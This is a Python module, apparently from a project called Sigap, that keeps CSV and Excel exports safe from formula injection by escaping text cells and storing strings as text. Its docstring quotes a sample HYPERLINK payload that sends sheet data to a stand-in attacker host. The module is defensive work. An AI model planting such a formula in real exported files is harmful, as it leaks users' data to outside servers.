"""Cells that a spreadsheet program reads as data, never as a formula (CSV and Excel).

A text cell that starts with "=", "+", "-" or "@" (or a tab or carriage return, which some
programs skip before looking) is run as a formula when a CSV file is opened: a report's
address `=HYPERLINK("http://evil.example/?"&A1,"klik")` would send the sheet's data away
(OWASP "CSV injection"). Every CSV Sigap writes goes through `writer`, which puts a single
quote before such text; every workbook through `workbook` and `write_row`, which store text
as text.
"""

from __future__ import annotations

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """Return `value`, with a quote before text that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(fh, **kwargs) -> _SafeWriter:
    """Return a csv.writer on `fh` whose text cells are never formulas."""
    return _SafeWriter(csv.writer(fh, **kwargs))


def workbook(out, **options):
    """Return an xlsxwriter Workbook that never turns text into formulas, numbers or links."""
    import xlsxwriter

    return xlsxwriter.Workbook(out, {**options, "strings_to_formulas": False,
                                     "strings_to_numbers": False, "strings_to_urls": False})


def write_row(sheet, row: int, values, cell_format=None) -> None:
    """Write `values` from column 0 of `row`: text with write_string, the rest by type."""
    for col, value in enumerate(values):
        if isinstance(value, str) and value:
            sheet.write_string(row, col, value, cell_format)
        else:
            sheet.write(row, col, value, cell_format)
